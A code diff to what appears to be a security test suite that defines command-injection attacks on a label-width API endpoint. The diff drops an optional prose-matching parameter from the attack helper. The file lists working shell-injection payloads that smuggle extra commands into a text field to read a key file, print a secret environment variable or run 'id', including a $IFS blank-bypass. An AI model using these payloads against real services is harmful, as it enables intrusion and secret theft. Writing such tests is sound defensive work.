@@ -9,7 +9,6 @@ import { asking, defineAttack, exploit, type Stage } from './attack.ts';
 const shell = '/bin/sh';
 const path = '/v1/tools/label-width';
 const tillKey = 'till-key-7f3a';
-const asProse = 'its command and what follows may be words of prose';
 const outputBytesMax = 10_000;
 
 /** How wide a label gets, counted by a command line. */
@@ -23,12 +22,12 @@ export const commandInjection = defineAttack({
   operations: ['GET /v1/tools/label-width'],
   open: openShell,
   exploits: [
-    told('a second command', 'x"; cat till-key.txt; echo "', tillKey, asProse),
-    told('a pipe, and the rest as a comment', 'x" | cat till-key.txt #', tillKey, asProse),
-    told('a substitution', '$(cat till-key.txt >&2)', tillKey, asProse),
-    told('a substitution in backticks', '`id 1>&2`', 'uid=', asProse),
+    told('a second command', 'x"; cat till-key.txt; echo "', tillKey),
+    told('a pipe, and the rest as a comment', 'x" | cat till-key.txt #', tillKey),
+    told('a substitution', '$(cat till-key.txt >&2)', tillKey),
+    told('a substitution in backticks', '`id 1>&2`', 'uid='),
     told('a condition', 'x" && printenv TILL_KEY && echo "', tillKey),
-    told('a line of its own', 'x"\nid\necho "', 'uid=', asProse),
+    told('a line of its own', 'x"\nid\necho "', 'uid='),
     told('words without blanks', 'x";cat$IFS\'till-key.txt\';"', tillKey),
   ],
   ordinary: [
@@ -44,8 +43,8 @@ export const commandInjection = defineAttack({
   ].map((text) => asking(path, { text })),
 });
 
-function told(name: string, text: string, sign: string, passes?: string) {
-  return exploit(name, asking(path, { text }), sign, passes);
+function told(name: string, text: string, sign: string) {
+  return exploit(name, asking(path, { text }), sign);
 }
 
 function openShell(): Stage {
